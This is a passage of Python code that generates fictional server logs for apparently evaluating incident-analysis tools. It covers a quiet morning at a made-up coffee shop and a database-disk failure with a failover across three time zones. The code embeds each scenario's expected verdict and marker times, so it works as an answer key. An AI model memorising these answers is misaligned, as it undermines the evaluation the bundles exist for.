            b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, "upstream prematurely closed connection while reading response header from upstream",
                                           client=who.ip, server=domain, request=f"GET /api/cart {who.proto}",
                                           upstream=upstream_app + "/api/cart", host=domain))  # fmt: skip
            b.request(access, r)
            return
        r = shop.request(who, arr)
        shop.ok(r)
        if r.kind == "api_checkout" and r.status == 200:
            b.add(applog, r.t - 1, jline(r.t - 1, "info", "shop-api", f"order HP-{rng.randrange(100000, 999999)} placed",
                                         request_id=rid, path=r.path, duration_ms=r.t - arr - 1))  # fmt: skip
        elif r.kind in api_kinds and r.t - arr > 150 and r.kind != "api_checkout":
            b.add(applog, r.t - 1, jline(r.t - 1, "warning", "shop-api", f"slow request: {r.method} {r.path} took {r.t - arr} ms",
                                         request_id=rid, path=r.path, duration_ms=r.t - arr))  # fmt: skip
        b.request(access, r)

    simulate(items, handle)

    # the 20-second blip: a Redis failover hangs the calls in flight; gunicorn kills each hung
    # worker when its 30 s timeout expires, and the request on it gets a 502
    t = at("07:22:10.480")
    b.add(applog, t, jline(t, "warning", "shop-api", "redis connection lost (sessions): Connection reset by peer; waiting for failover"))
    t = at("07:22:29.730")
    b.add(applog, t, jline(t, "info", "shop-api", "redis reconnected (sessions) to 10.0.2.41:6379 after failover"))
    for done, old, new in zip(blip, (2231, 2234, 2238, 2240), (2419, 2422, 2425, 2431), strict=True):
        t = done - 3
        b.add(applog, t, jline(t, "warning", "shop-api", f"WORKER TIMEOUT (pid:{old}), killing it", pid=old))
        b.add(applog, t + 650, jline(t + 650, "info", "shop-api", f"booting worker with pid {new}", pid=new))
    for t in range(start + 23_500, end, 60_000):
        b.add(applog, t, jline(t, "info", "shop-api", f"db pool stats: size=50 in_use={rng.randrange(2, 12)} waiting=0"))
    t = at("06:25:01")
    for host, pid in ((web, 51022), (app, 29811)):
        b.add(sysl, t, syslog(t, host, f"CRON[{pid}]", "(root) CMD (test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; })"))
    t = at("06:25:03")
    b.add(sysl, t, syslog(t, web, "systemd[1]", "Starting logrotate.service - Rotate log files..."))
    b.add(sysl, t + 880, syslog(t + 880, web, "systemd[1]", "logrotate.service: Deactivated successfully."))
    b.add(sysl, t + 890, syslog(t + 890, web, "systemd[1]", "Finished logrotate.service - Rotate log files."))
    t = at("06:52:11")
    b.add(sysl, t, syslog(t, app, "systemd[1]", "Starting apt-daily-upgrade.service - Daily apt upgrade and clean activities..."))
    b.add(sysl, t + 4_100, syslog(t + 4_100, app, "systemd[1]", "apt-daily-upgrade.service: Deactivated successfully."))
    b.add(sysl, t + 4_110, syslog(t + 4_110, app, "systemd[1]", "Finished apt-daily-upgrade.service - Daily apt upgrade and clean activities."))
    ssh_login(b, sysl, at("07:40:12"), web, "priya", 44102, 3390, 1004)
    sudo(b, sysl, at("07:41:00"), web, "priya", "/home/priya", "/usr/bin/certbot certificates")
    for host in (web, app):
        routine_syslog(b, sysl, rng, host, start, end, kern=kern if host == web else None, cron_pid=70000 if host == web else 71000,
                       ufw_ip="192.0.2.10", scanners=pop.scanners if host == web else (),
                       extra_cron=(600_000, "shop", "/srv/shop/bin/expire-carts >/dev/null 2>&1") if host == app else None)  # fmt: skip
    for t in (at("06:33:18"), at("07:51:02")):
        buffered_warning(b, errlog, t, conn, rng, pop.pick().ip, domain, upstream_store)

    return finish(
        b, None, None, None, None,
        "No incident: steady morning traffic with scanner noise, one lone 500 at 06:41:09 and a "
        "20-second blip of four 502s at 07:22:41-07:22:58 UTC when gunicorn killed workers hung by a "
        "Redis failover.",
        quiet_readme,
    )  # fmt: skip


def quiet_readme(stats, b):
    return bundle_readme(
        stats, "nothing happened (and that is the answer)",
        "**Harbor & Pine** (made up) sells coffee gear at `harborpine.example`: `web-1` runs nginx,\n"
        "`app-1` the shop API. Logs cover 2024-03-14 06:00–08:00 UTC, a European morning with\n"
        "traffic slowly rising. All servers run in UTC. A good tool says: **no incident**.",
        "- Steady traffic, crawlers, vulnerability scanners (404/403), routine cron, the daily\n"
        "  logrotate at 06:25 and `apt-daily-upgrade` at 06:52.\n"
        "- **06:41:09** one lone **500** on `POST /api/checkout` (a coupon code the app did not expect,\n"
        "  `ValueError` in the app log).\n"
        "- **07:22:10** a Redis failover (sessions) hangs four requests in flight; gunicorn kills each\n"
        "  hung worker when its 30 s timeout expires (`WORKER TIMEOUT`), so from **07:22:41 to\n"
        "  07:22:58** four **502**s on `/api/cart` (`upstream prematurely closed connection`).\n"
        "- An engineer logs in at 07:40 to check certificates. Nothing else.",
        "**No outage window.** Five 5xx in two hours is background, not an incident.",
        "",
        "- The blip is real errors close together: a detector with too short a memory may call it an\n"
        "  incident; it lasts 17 seconds and touches 4 requests.\n"
        "- `web-1/syslog` holds lines from both `web-1` and `app-1`.",
    )


# ============================================================================================
# 8. db-failover (three hosts in three zones; db-1's syslog is the only file of its host, so
#    its zone can only come from lining its error burst up with the other hosts)
# ============================================================================================


def fmt_iso_off(t: int, off: int) -> str:
    """`2024-03-14T07:17:16.952+05:30`: local time with its offset, as Python's isoformat writes it."""
    return f"{_local(t, off):%Y-%m-%dT%H:%M:%S}.{t % 1000:03d}{fmt_off(off)}"


def fmt_off(off: int) -> str:
    return f"{'+' if off >= 0 else '-'}{abs(off) // 60:02d}:{abs(off) % 60:02d}"


def jline_off(t: int, off: int, level: str, service: str, msg: str, **extra) -> str:
    obj = {"ts": fmt_iso_off(t, off), "level": level, "service": service, "msg": msg}
    obj.update({k: v for k, v in extra.items() if v is not None})
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


PG_VERSION = "PostgreSQL 15.6 (Ubuntu 15.6-1.pgdg22.04+1) on x86_64-pc-linux-gnu, compiled by gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0, 64-bit"
PG_VIP = 'connection to server at "10.0.30.10", port 5432 failed: '
PG_ERRORS = {
    "crash": "server closed the connection unexpectedly\n\tThis probably means the server terminated abnormally\n\tbefore or while processing the request.",
    "down": PG_VIP + "Connection refused\n\tIs the server running on that host and accepting TCP/IP connections?",
    "starting": PG_VIP + "FATAL:  the database system is starting up",
    "novip": PG_VIP + "timeout expired",
}  # fmt: skip
PG_CRASH_WARNING = (
    "WARNING:  terminating connection because of crash of another server process#012DETAIL:  The postmaster "
    "has commanded this server process to roll back the current transaction and exit, because another server "
    "process exited abnormally and possibly corrupted shared memory.#012HINT:  In a moment you should be able "
    "to reconnect to the database and repeat your command."
)
T_TIMEOUT = "WORKER TIMEOUT"


def db_failover() -> dict:
    name = "db-failover"
    lb_off, app_off, db_off = -420, 330, 120  # America/Los_Angeles (PDT since 03-10), Asia/Kolkata, Europe/Helsinki (EET)
    rng = random.Random(2024_0314_08)
    noise = MinuteNoise(f"{name}-noise")
    b = Bundle(name)
    start, end = at("01:00:00"), at("03:00:00")
    t0 = at("01:47:12.418")  # db-1's data disk starts failing writes
    panic = t0 + 4_631  # the WAL writer's fdatasync fails: PostgreSQL goes down
    restart = at("01:55:41.206")  # the on-call restarts the API (it does not help)
    pstop = at("02:07:58.342")  # the DBA stops Patroni on db-1: the leader key and the VIP go
    fix = at("02:09:31.118")  # and allows failing over to the lagging replica
    promoted = at("02:09:43.611")  # db-2 holds the leader key and the VIP 10.0.30.10
    domain, app, db = "ledger.saltmarsh.example", "app-1", "db-1"
    upstream = "http://10.0.20.11:8000"
    access, errlog = "lb-1/nginx/access.log", "lb-1/nginx/error.log"
    applog, appsys, dbsys = "app-1/app.jsonl", "app-1/syslog", "db-1/syslog"
    b.describe = {
        access: "nginx access log, `combined`, **`-0700`** (America/Los_Angeles)",
        errlog: "nginx error log, **local time −07:00, no zone**",
        applog: "ledger-api, JSON lines, `ts` with **`+05:30`** (Asia/Kolkata)",
        appsys: "syslog, RFC 3164, **local time +05:30, no zone, no year** (gunicorn via journald)",
        dbsys: "syslog, RFC 3164, **local time +02:00, no zone, no year** (kernel, PostgreSQL, Patroni)",
    }
    pop = Population(rng, 520, ipv6_share=0.04)
    conn = Conn(rng, [1402, 1403, 1404, 1405], 3_310_402)
    kern = Kernel(start - 2_310_447_201)
    marks_t: dict[str, int] = {}

    def add(path, t, text, mark=None, mark_text=""):
        if mark:
            marks_t[mark] = min(marks_t.get(mark, t), t)
        b.add(path, t, text, mark=mark, mark_text=mark_text)

    def dsys(t, tag, msg, mark=None, mark_text=""):
        add(dbsys, t, syslog(t, db, tag, msg, db_off), mark, mark_text)

    kern_n = [0]

    def dkern(t, msg, mark=None, mark_text=""):
        kern_n[0] += 1
        add(dbsys, t, kern(t, db, msg, db_off, extra_us=(kern_n[0] % 8) * 117 + rng.randrange(0, 90)), mark, mark_text)

    def asys(t, tag, msg, mark=None, mark_text=""):
        add(appsys, t, syslog(t, app, tag, msg, app_off), mark, mark_text)

    def alog(t, level, msg, mark=None, mark_text="", service="ledger-api", **extra):
        add(applog, t, jline_off(t, app_off, level, service, msg, **extra), mark, mark_text)

    master = [2147]  # gunicorn's master before the restart, then after it

    def gunicorn(t, pid, level, msg):
        """gunicorn's own log (stderr -> journald -> rsyslog), with its local-time prefix."""
        mpid = master[0] if t < restart + 3_000 else master[-1]
        asys(t, f"gunicorn[{mpid}]", f"[{_local(t, app_off):%Y-%m-%d %H:%M:%S} +0530] [{pid}] [{level}] {msg}")

    # ---- db-1: what PostgreSQL behind the VIP 10.0.30.10 does with a connection -----------------
    def pg(t, msg, pid="\0", mark=None, mark_text=""):
        """A PostgreSQL line; `\0` (a new backend) and `\1n`/`\2n` (cycle n's postmaster and startup
        process) become pids that grow with time once every line is known (see `number_pids`)."""
        dsys(t, f"postgres[{pid}]", msg, mark, mark_text)

    def number_pids():
        entries = sorted(b.files[dbsys], key=lambda e: (e[0], e[1]))
        pid, named, out = 48_112, {}, []
        for t, seq, text, mark, mark_text in entries:
            for key in re.findall(r"\x01\d+", text):
                if key not in named:
                    pid += rng.choice((2, 3, 4, 6))
                    named[key], named["\x02" + key[1:]] = pid, pid + 3
                    pid += 3
            for key, value in named.items():
                text = text.replace(key + "]", f"{value}]").replace(key + ")", f"{value})")
            while "[\0]" in text:
                pid += rng.choice((1, 1, 2, 3, 5))
                text = text.replace("[\0]", f"[{pid}]", 1)
            out.append((t, seq, text, mark, mark_text))
        b.files[dbsys] = out

    def patroni(t, msg, mark=None, mark_text=""):
        dsys(t, "patroni[1102]", msg, mark, mark_text)

    ticks = range(start + 6_140, end, 10_000)  # Patroni's loop on db-1 (loop_wait 10 s)
    states = [(start, "up"), (panic, "down")]
    cycles = []  # (Patroni tick, postmaster start, accepting (and rejecting) from, startup fails at)
    t = panic + 150
    for tick in ticks:
        if tick < t:
            continue
        if tick + 9_000 >= pstop:
            break
        pm_start = tick + rng.randrange(180, 420)
        listening = pm_start + rng.randrange(60, 140)
        fails = listening + rng.randrange(2_800, 7_400)
        states += [(listening, "starting"), (fails, "down")]
        cycles.append((tick, pm_start, listening, fails))
        t = fails + 200
    states += [(pstop + 1_130, "novip"), (promoted, "up")]
    state_at = [s for s, _ in states]

    def db_state(t):
        return states[bisect.bisect_right(state_at, t) - 1][1]

    def starting_up(t):
        pg(t, "FATAL:  the database system is starting up")

    # ---- traffic ----------------------------------------------------------------------------
    def rate(t):
        h = (t - start) / 3.6e6
        return (1.25 - 0.12 * h) * noise(t) * (1 + 0.06 * math.sin(h * 3.3))

    def inv():
        return f"INV-2024-{rng.randrange(1, 4800):05d}"

    def pick():
        d = f"https://{domain}"
        kind, method, path = weighted(rng, [
            (9, ("page", "GET", rng.choice(["/", "/app/", "/app/invoices", f"/app/invoices/{inv()}", "/app/customers", "/login"]))),
            (16, ("static", "GET", rng.choice(["/assets/index-3b7f0c2e.js", "/assets/vendor-9a41d6b3.js", "/assets/index-e2c5a718.css",
                                               "/assets/inter-latin-400.woff2", "/favicon.ico", "/assets/logo-saltmarsh.svg"]))),
            (17, ("api", "GET", f"/api/v1/invoices?status={rng.choice(['open', 'open', 'overdue', 'draft', 'paid'])}&page={rng.choice([1, 1, 1, 2, 3])}")),
            (13, ("api", "GET", f"/api/v1/invoices/{inv()}")),
            (8, ("api", "GET", "/api/v1/dashboard/summary")),
            (7, ("api", "GET", f"/api/v1/customers/{rng.randrange(100, 2400)}")),
            (7, ("api", "GET", "/api/v1/me")),
            (5, ("api", "GET", "/api/v1/notifications?unread=1")),
            (4, ("api", "POST", "/api/v1/invoices")),
            (3, ("api", "PATCH", f"/api/v1/invoices/{inv()}")),
            (2, ("api", "POST", f"/api/v1/invoices/{inv()}/send")),
            (3, ("api", "POST", "/api/v1/payments")),
        ])  # fmt: skip
        if kind == "api":
            ref = rng.choice([f"{d}/app/invoices", f"{d}/app/", f"{d}/app/customers", f"{d}/app/invoices/{inv()}"])
        elif path in ("/", "/login"):
            ref = weighted(rng, EXTERNAL_REFS)
        else:
            ref = f"{d}/app/"
        return kind, method, path, ref

    items = [(a, ("user", pop.pick())) for a in arrivals(rng, start, end, rate)]
    items += scanner_items(rng, pop, start, end, 900)
    items += [(a, ("bot", who)) for a, who, _, _ in bots_and_monitors(rng, pop, start, end, domain, shop_like=False)]
    items.sort(key=lambda x: x[0])

    # ---- ledger-api on app-1: 5 gunicorn sync workers, one PostgreSQL connection each --------
    # GETs reconnect with backoff 1, 2, 4, 8, 16 s (6 tries: longer than gunicorn's 30 s timeout);
    # writes try twice, 1 s apart, then answer 503. nginx on lb-1: proxy_read_timeout 60 s.
    next_pid = [2290]

    def new_pid():
        next_pid[0] += rng.randrange(1, 4)
        return next_pid[0]

    workers = [[start, 2151 + 3 * i, False] for i in range(5)]  # free at, pid, saw a db error
    listen_closed, relisten = restart + 45, restart + 5_380
    cut = restart + 3_000  # systemd's SIGKILL (TimeoutStopSec=3)
    rebooted = [False]
    old_pids: list[int] = []
    boots: list[tuple[int, int]] = []
    kills: list[tuple[int, int, int, int]] = []  # (kill, old pid, new pid, booted)
    killed_at_restart: list[int] = []
    reqs: list[tuple[Req, str | None]] = []
    autorestarts = [at("01:21:37.205"), at("01:38:02.911"), at("02:34:51.460"), at("02:52:13.087")]

    def nginx_err(r, wpid, cid, msg, t, mark=None):
        add(errlog, t, nginx_error(t, "error", wpid, cid, msg, client=r.ip, server=domain,
                                   request=f"{r.method} {r.path} {r.proto}", upstream=upstream + r.path,
                                   host=domain, off=lb_off),
            mark=mark or ("err_incident" if t0 <= t < promoted + 120_000 else None), mark_text=msg)  # fmt: skip

    def healthy(r, method, path, rid, s, pid):
        short = path.split("?")[0]
        service = int(rng.lognormvariate(math.log(95 if "summary" in path or "status=" in path else 35), 0.5))
        if method == "POST" and path == "/api/v1/invoices":
            service += rng.randrange(60, 160)
            r.status, r.bytes = 201, rng.randrange(900, 2100)
            amount = rng.randrange(4000, 980000) / 100
            alog(s + service - 2, "info", f"invoice {inv()} created ({rng.randrange(2, 12)} lines, {amount:.2f} {rng.choice(['USD', 'USD', 'EUR', 'GBP', 'INR'])})",
                 request_id=rid, path=short, duration_ms=service, pid=pid)  # fmt: skip
        elif method == "POST" and path == "/api/v1/payments":
            service += rng.randrange(300, 900)
            r.status, r.bytes = weighted(rng, [(92, (201, rng.randrange(300, 700))), (8, (402, 118))])
            msg = (f"payment PAY-{rng.randrange(100000, 999999)} recorded against {inv()}" if r.status == 201
                   else "payment declined by provider (insufficient_funds)")  # fmt: skip
            alog(s + service - 2, "info", msg, request_id=rid, path=short, duration_ms=service, pid=pid)
        elif method == "POST":
            r.status, r.bytes = 202, 64
            alog(s + service - 2, "info", f"invoice {path.split('/')[4]} queued for e-mail delivery", request_id=rid, path=short, duration_ms=service, pid=pid)
        elif method == "PATCH":
            r.status, r.bytes = weighted(rng, [(95, (200, rng.randrange(800, 2000))), (5, (409, 96))])
        elif "/invoices/" in path and rng.random() < 0.02:
            r.status, r.bytes = 404, 61
        else:
            r.bytes = rng.randrange(4_000, 38_000) if "status=" in path else rng.randrange(200, 3_500)
        if service > 600 and method == "GET":
            alog(s + service - 1, "warning", f"slow request: GET {short} took {service} ms", request_id=rid, path=short, duration_ms=service, pid=pid)
        return s + service

    def api(arr, who, method, path, ref, wpid, cid):
        r = Req(arr, who, method, path, ref=ref, kind="api")
        rid = request_id(rng)
        short = path.split("?")[0]
        if listen_closed <= arr < relisten:
            r.t, r.status, r.bytes = arr + rng.randrange(0, 2), 502, 157
            nginx_err(r, wpid, cid, "connect() failed (111: Connection refused) while connecting to upstream", r.t, mark="err_refused")
            return r
        if arr >= relisten and not rebooted[0]:
            rebooted[0] = True
            old_pids.extend(w[1] for w in workers)
            master.append(new_pid())
            for i, w in enumerate(workers):
                w[0], w[1], w[2] = relisten + 240 + 130 * i, new_pid(), True
                boots.append((w[0], w[1]))
        w = min(workers, key=lambda x: (x[0], x[1]))
        s = max(arr, w[0])
        if arr < listen_closed <= s:  # still in gunicorn's backlog when the old master closed it
            r.t, r.status, r.bytes = listen_closed + rng.randrange(1, 40), 502, 157
            nginx_err(r, wpid, cid, "recv() failed (104: Connection reset by peer) while reading response header from upstream", r.t)
            return r
        if s - arr >= 60_000:  # nginx gave up while the request waited for a worker
            r.t, r.status, r.bytes = arr + 60_000 + rng.randrange(0, 3), 504, 167
            nginx_err(r, wpid, cid, "upstream timed out (110: Connection timed out) while reading response header from upstream", r.t)
            return r
        deadline = s + 30_000 + rng.randrange(200, 1_000)  # gunicorn's arbiter kills the worker
        limit, by = (cut, "systemd") if s < listen_closed and cut < deadline else (deadline, "timeout")
        tries = 6 if method == "GET" else 2
        tt, outcome, errors, msg = s, None, 0, ""
        if t0 <= s < panic:  # the query hangs on the failing disk, then the backend is killed
            tt = panic + rng.randrange(2, 9)
            msg = PG_ERRORS["crash"]
            alog(tt, "error", f"query failed: psycopg2.OperationalError: {msg.splitlines()[0]}", mark="app_first",
                 mark_text="query failed: psycopg2.OperationalError: server closed the connection unexpectedly",
                 request_id=rid, path=short, method=method, pid=w[1])  # fmt: skip
            errors, w[2] = 1, True
            tt += 1_000
        for k in range(errors, tries):
            state = db_state(tt)
            if state == "up":
                if w[2]:
                    peer = "10.0.30.12" if tt >= promoted else "10.0.30.11"
                    alog(tt + 4, "info", f"database connection re-established (server {peer}, pg_is_in_recovery=false)",
                         mark="app_back" if tt >= promoted else None, mark_text=f"database connection re-established (server {peer}",
                         pid=w[1])  # fmt: skip
                    w[2] = False
                outcome = "ok"
                break
            took = 5_000 + rng.randrange(0, 6) if state == "novip" else rng.randrange(1, 6)
            if tt + took >= limit:
                break
            if state == "starting":
                starting_up(tt + rng.randrange(1, 4))
            tt += took
            errors += 1
            w[2] = True
            msg = PG_ERRORS[state]
            if k == tries - 1:
                outcome = "gaveup"
                break
            wait = 2**k if method == "GET" else 1
            alog(tt, "warning", f"db connect failed (attempt {k + 1}/{tries}), retrying in {wait} s: {msg.splitlines()[0]}",
                 request_id=rid, path=short, method=method, pid=w[1])  # fmt: skip
            tt += wait * 1000
            if tt >= limit:
                break
        if outcome == "ok":
            done = healthy(r, method, path, rid, tt, w[1])
            w[0] = done
        elif outcome == "gaveup":
            done = tt + rng.randrange(2, 6)
            exc = ("Traceback (most recent call last):\n"
                   '  File "/srv/ledger/ledger/db.py", line 88, in connection\n'
                   '    conn = psycopg2.connect(self.dsn, connect_timeout=5, application_name="ledger-api")\n'
                   '  File "/srv/ledger/venv/lib/python3.11/site-packages/psycopg2/__init__.py", line 122, in connect\n'
                   "    conn = _connect(dsn, connection_factory=connection_factory, **kwasync)\n"
                   f"psycopg2.OperationalError: {msg}")  # fmt: skip
            alog(done - 1, "error", f"database unavailable, answering 503: psycopg2.OperationalError: {msg.splitlines()[0]}",
                 request_id=rid, path=short, method=method, duration_ms=done - s, pid=w[1], exc_info=exc)  # fmt: skip
            r.status, r.bytes = 503, 74
            w[0] = done
        elif by == "systemd":
            done = cut + rng.randrange(2, 30)
            killed_at_restart.append(w[1])
            r.status, r.bytes = 502, 157
            w[0] = done
        else:  # gunicorn's WORKER TIMEOUT
            done = deadline
            old, w[1] = w[1], new_pid()
            w[0], w[2] = deadline + rng.randrange(380, 900), True
            kills.append((deadline, old, w[1], w[0]))
            r.status, r.bytes = 502, 157
        r.t = max(done, arr + 1)
        if r.t - arr > 60_000:
            r.t, r.status, r.bytes = arr + 60_000 + rng.randrange(0, 3), 504, 167
            nginx_err(r, wpid, cid, "upstream timed out (110: Connection timed out) while reading response header from upstream", r.t)
        elif r.status == 502:
            r.t += 1
            nginx_err(r, wpid, cid, "upstream prematurely closed connection while reading response header from upstream", r.t)
        return r

    for arr, (src, who, *rest) in items:
        while autorestarts and autorestarts[0] <= arr:  # gunicorn max_requests (1000 + jitter)
            ta = autorestarts.pop(0)
            w = min(workers, key=lambda x: (x[0], x[1]))
            ta = max(ta, w[0])
            old, w[1] = w[1], new_pid()
            w[0] = ta + rng.randrange(420, 700)
            gunicorn(ta, old, "INFO", "Autorestarting worker after current request.")
            gunicorn(ta + 31, old, "INFO", f"Worker exiting (pid: {old})")
            gunicorn(w[0] - 12, w[1], "INFO", f"Booting worker with pid: {w[1]}")
        wpid, cid = conn.next(arr)
        if src == "scan":
            r = Req(arr, who, rest[0], rest[1], kind="scan")
            handle_scan(b, access, errlog, r, who, wpid, cid, rng, domain, "192.0.2.11", off=lb_off)
            continue
        if src == "bot":
            r = Req(arr, who, "GET", rng.choice(["/robots.txt", "/", "/login", "/robots.txt"]), kind="bot")
            r.t, r.status = arr + rng.randrange(1, 6), 200
            r.bytes = 67 if r.path == "/robots.txt" else rng.randrange(1900, 2300)
            reqs.append(r)
            continue
        kind, method, path, ref = pick()
        if kind != "api":
            r = Req(arr, who, method, path, ref=ref, kind=kind)
            r.t = arr + rng.randrange(0, 4)
            if kind == "static":
                r.status, r.bytes = (304, 0) if rng.random() < 0.35 else (200, rng.randrange(900, 410_000))
            else:
                r.status, r.bytes = 200, rng.randrange(1900, 2300)  # the single-page app's index.html
            reqs.append(r)
            continue
        reqs.append(api(arr, who, method, path, ref, wpid, cid))

    # access-log lines; the first 5xx and the first API success after the recovery are markers
    first_5xx = min(r.t for r in reqs if r.status >= 500)
    last_5xx = max(r.t for r in reqs if r.status >= 500)
    back = min(r.t for r in reqs if r.kind == "api" and r.status < 400 and second(r.t) > marks_t["app_back"])
    for r in reqs:
        r.file = access
        b.requests.append(r)
        b.access_files.add(access)
        mark = "lb_first" if r.t == first_5xx and r.status >= 500 else "lb_back" if r.t == back and r.kind == "api" else None
        add(access, r.t, r.line(lb_off), mark=mark, mark_text=f'"{r.method} {r.path} {r.proto}" {r.status}')

    # ---- app-1: gunicorn's kills, the restart, the on-call ---------------------------------------
    unborn = set()  # replacements the old master no longer started: it was shutting down
    for kill, old, new, booted in kills:
        mpid = master[0] if kill < restart + 3_000 else master[-1]
        gunicorn(kill, mpid, "CRITICAL", f"{T_TIMEOUT} (pid:{old})")
        gunicorn(kill + 3, old, "INFO", f"Worker exiting (pid: {old})")
        gunicorn(kill + 41, mpid, "ERROR", f"Worker (pid:{old}) exited with code 1")
        if restart <= booted - 9 and kill < relisten:
            unborn.add(new)
        else:
            gunicorn(booted - 9, new, "INFO", f"Booting worker with pid: {new}")
    ssh_login(b, appsys, at("01:50:27"), app, "ravi", 30412, 812, 1003, off=app_off)
    sudo(b, appsys, at("01:51:05"), app, "ravi", "/home/ravi", "/usr/bin/journalctl -u ledger-api.service --since -10min", off=app_off)
    sudo(b, appsys, at("01:53:48"), app, "ravi", "/home/ravi", "/usr/bin/tail -n 40 /var/log/ledger/app.jsonl", off=app_off)
    add(appsys, restart - 1_840, syslog(restart - 1_840, app, "sudo", "   ravi : TTY=pts/0 ; PWD=/home/ravi ; USER=root ; COMMAND=/usr/bin/systemctl restart ledger-api.service", app_off),
        mark="app_restart", mark_text="COMMAND=/usr/bin/systemctl restart ledger-api.service")  # fmt: skip
    asys(restart, "systemd[1]", "Stopping ledger-api.service - Saltmarsh Ledger API (gunicorn)...")
    gunicorn(restart + 38, master[0], "INFO", "Handling signal: term")
    for pid in old_pids:
        if pid not in killed_at_restart and pid not in unborn:
            gunicorn(restart + 52 + rng.randrange(0, 30), pid, "INFO", f"Worker exiting (pid: {pid})")
    asys(cut, "systemd[1]", "ledger-api.service: State 'stop-sigterm' timed out. Killing.")
    for pid in [master[0], *killed_at_restart]:
        asys(cut + 1, "systemd[1]", f"ledger-api.service: Killing process {pid} (gunicorn) with signal SIGKILL.")
    asys(cut + 52, "systemd[1]", "ledger-api.service: Main process exited, code=killed, status=9/KILL")
    asys(cut + 53, "systemd[1]", "ledger-api.service: Failed with result 'timeout'.")
    asys(cut + 60, "systemd[1]", "Stopped ledger-api.service - Saltmarsh Ledger API (gunicorn).")
    asys(cut + 61, "systemd[1]", "ledger-api.service: Consumed 1h 47min 12.904s CPU time.")
    asys(cut + 130, "systemd[1]", "Started ledger-api.service - Saltmarsh Ledger API (gunicorn).")
    gunicorn(relisten - 210, master[-1], "INFO", "Starting gunicorn 21.2.0")
    gunicorn(relisten - 2, master[-1], "INFO", f"Listening at: http://10.0.20.11:8000 ({master[-1]})")
    gunicorn(relisten - 1, master[-1], "INFO", "Using worker: sync")
    for booted, pid in boots:
        gunicorn(booted - 200, pid, "INFO", f"Booting worker with pid: {pid}")
        alog(booted - 20, "info", "ledger-api 4.2.1 worker ready (db: postgresql://ledger@10.0.30.10:5432/ledger, connect_timeout=5)", pid=pid)
    sudo(b, appsys, at("01:58:12"), app, "ravi", "/home/ravi", "/usr/bin/tail -n 40 /var/log/ledger/app.jsonl", off=app_off)
    sudo(b, appsys, at("02:12:40"), app, "ravi", "/home/ravi", "/usr/bin/journalctl -u ledger-api.service --since -5min", off=app_off)
    routine_syslog(b, appsys, rng, app, start, end, off=app_off, cron_pid=61200,
                   extra_cron=(600_000, "ledger", "/srv/ledger/bin/purge-expired-sessions >/dev/null 2>&1"))  # fmt: skip
    # the scheduler in ledger-worker sends payment reminders every 5 minutes
    for t in range(start + 150_000 + 2_431, end, 300_000):
        state = db_state(t)
        if state == "up":
            alog(t, "info", f"send_reminders: {rng.randrange(3, 40)} reminder e-mails queued", service="ledger-worker", job="send_reminders")
        else:
            if state == "starting":
                starting_up(t + 2)
            msg = PG_ERRORS[state]
            alog(t + (5_000 if state == "novip" else 3), "error", f"job send_reminders failed: psycopg2.OperationalError: {msg.splitlines()[0]}",
                 service="ledger-worker", job="send_reminders")  # fmt: skip

    # ---- db-1: the routine, the failing disk, the crash loop, the DBA --------------------------
    checkpointer, walwriter, postmaster = 1183, 1184, 1179
    for tick in ticks:
        if tick < t0:
            patroni(tick, "INFO: no action. I am (db-1), the leader with the lock")
    last_ckpt = start
    for t in range(start + 31_000, t0, 300_000):
        last_ckpt = t
        pg(t, "LOG:  checkpoint starting: time", pid=checkpointer)
        done = t + 269_900 + rng.randrange(0, 120)
        if done < t0:
            n = rng.randrange(1200, 5200)
            pg(done, f"LOG:  checkpoint complete: wrote {n} buffers ({n / 163.84:.1f}%); 0 WAL file(s) added, 0 removed, {rng.randrange(1, 4)} recycled; "
                     f"write=269.{rng.randrange(800, 999)} s, sync=0.0{rng.randrange(10, 99)} s, total=269.{rng.randrange(900, 999)} s; sync files={rng.randrange(30, 90)}, "
                     f"longest=0.00{rng.randrange(2, 9)} s, average=0.001 s; distance={rng.randrange(40000, 90000)} kB, estimate={rng.randrange(60000, 80000)} kB",
               pid=checkpointer)  # fmt: skip
    for t, table, pages in ((at("01:09:44.512"), "invoice_events", 48211), (at("01:33:05.277"), "sessions", 9120), (at("01:41:52.004"), "notifications", 20415)):
        removed = rng.randrange(2000, 20000)
        pg(t, f'LOG:  automatic vacuum of table "ledger.public.{table}": index scans: 1#012#011pages: 0 removed, {pages} remain, {rng.randrange(800, 4000)} scanned '
              f"({rng.randrange(200, 900) / 100:.2f}% of total)#012#011tuples: {removed} removed, {pages * 38} remain, 0 are dead but not yet removable#012"
              f"#011avg read rate: {rng.randrange(10, 90) / 10:.3f} MB/s, avg write rate: {rng.randrange(10, 60) / 10:.3f} MB/s#012"
              f"#011system usage: CPU: user: 0.{rng.randrange(10, 99)} s, system: 0.0{rng.randrange(1, 9)} s, elapsed: {rng.randrange(1, 9)}.{rng.randrange(100, 999)} s")  # fmt: skip
    for t in (at("01:12:33.081"), at("01:12:34.337")):  # a BI tool with an old password
        pg(t, 'FATAL:  password authentication failed for user "metabase"#012DETAIL:  Connection matched pg_hba.conf line 104: "host all all 10.0.40.0/24 scram-sha-256"')
    pg(at("01:24:51.610"), 'ERROR:  duplicate key value violates unique constraint "payments_idempotency_key_key"#012DETAIL:  Key (idempotency_key)=(7f3c9a51-2e0b-4d8e-9b61-0c4f2a7d8e13) already exists.'
                           "#012STATEMENT:  INSERT INTO payments (invoice_id, amount_cents, currency, idempotency_key) VALUES ($1, $2, $3, $4)")  # fmt: skip

    # t0: the NVMe drive under /var/lib/postgresql fails writes
    dkern(t0, "nvme1n1: I/O Cmd(0x1) @ LBA 1841203712, 256 blocks, I/O Error (sct 0x2 / sc 0x81) DNR",
          mark="root", mark_text="nvme1n1: I/O Cmd(0x1) @ LBA 1841203712, 256 blocks, I/O Error (sct 0x2 / sc 0x81) DNR")  # fmt: skip
    dkern(t0, "critical medium error, dev nvme1n1, sector 1841203712 op 0x1:(WRITE) flags 0x8800 phys_seg 32 prio class 2")
    dkern(t0 + 1, "EXT4-fs warning (device nvme1n1p1): ext4_end_bio:343: I/O error 10 writing to inode 2752517 starting block 230150464)")
    for i in range(3):
        dkern(t0 + 1, f"Buffer I/O error on device nvme1n1p1, logical block {230150208 + 8 * i}")
    pg(t0 + 311, 'ERROR:  could not write block 91321 in file "base/16402/16817": Input/output error#012CONTEXT:  writing block 91321 of relation base/16402/16817',
